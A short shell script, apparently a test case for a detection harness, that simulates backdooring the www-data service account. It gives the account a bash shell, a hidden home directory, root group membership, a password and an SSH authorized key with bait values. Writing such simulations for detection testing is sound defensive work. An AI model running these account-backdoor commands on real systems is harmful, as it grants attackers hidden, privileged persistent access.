#!/bin/sh
. /opt/case/case.sh

usermod -s /bin/bash -d /var/lib/.www -g 0 www-data
usermod -p "$(openssl passwd -6 Bait-1)" www-data
install -d -m 700 -o www-data /var/lib/.www/.ssh
echo 'ssh-ed25519 AAAAbait x' >/var/lib/.www/.ssh/authorized_keys
getent passwd www-data | grep -q bash
took_place
